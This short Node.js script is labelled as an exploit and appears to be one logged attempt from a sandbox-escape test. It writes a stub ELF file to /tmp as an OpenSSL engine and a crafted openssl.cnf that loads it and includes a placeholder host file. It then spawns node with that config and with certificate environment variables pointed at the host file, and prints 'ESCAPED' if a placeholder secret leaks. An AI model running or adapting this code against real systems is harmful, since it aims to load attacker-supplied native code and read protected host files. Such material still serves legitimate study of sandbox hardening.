// exploit: has the cryptography load code and settings of its own making
// outcome: finished
// says: tried
const { spawnSync } = require('node:child_process')
const crypto = require('node:crypto')
const fs = require('node:fs')
fs.writeFileSync('/tmp/engine.so', Buffer.from('7f454c46020101000000000000000000', 'hex'))
fs.writeFileSync('/tmp/openssl.cnf', 'nodejs_conf = a\n[a]\nengines = b\n[b]\nc = d\n[d]\ndynamic_path = /tmp/engine.so\ninit = 1\n.include __HOST_FILE__\n')
for (const engine of ['/tmp/engine.so', 'dynamic', '__HOST_FILE__']) {
  try {
    crypto.setEngine?.(engine)
  } catch {
    continue
  }
}
const { stdout, stderr } = spawnSync(process.execPath, ['--openssl-shared-config', '--openssl-config=/tmp/openssl.cnf', '-p', "require('node:crypto').randomUUID()"], { encoding: 'utf8', env: { OPENSSL_CONF: '/tmp/openssl.cnf', SSL_CERT_FILE: '__HOST_FILE__', NODE_EXTRA_CA_CERTS: '__HOST_FILE__' } })
if (/__HOST_SECRET__/.test(stdout + stderr)) console.log('ESCAPED', stderr)
console.log('tried')
